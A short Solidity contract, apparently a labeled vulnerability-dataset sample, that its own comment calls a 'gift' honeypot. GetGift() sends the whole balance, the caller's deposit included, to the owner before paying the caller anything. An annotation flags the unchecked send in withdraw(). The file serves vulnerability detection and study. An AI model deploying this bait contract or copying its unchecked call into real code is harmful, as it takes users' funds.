pragma solidity ^0.4.18;

// A "gift" contract of the honeypot era: the owner's withdraw ignores send's result.
contract GiftBox {
    address public Owner = msg.sender;

    function() public payable {}

    function GetGift() public payable {
        if (msg.value >= this.balance) {
            Owner.transfer(this.balance);
            msg.sender.transfer(this.balance);
        }
    }

    function withdraw() public {
        require(msg.sender == Owner);
        Owner.send(this.balance); // @vuln category=unchecked_low_level_calls
    }
}
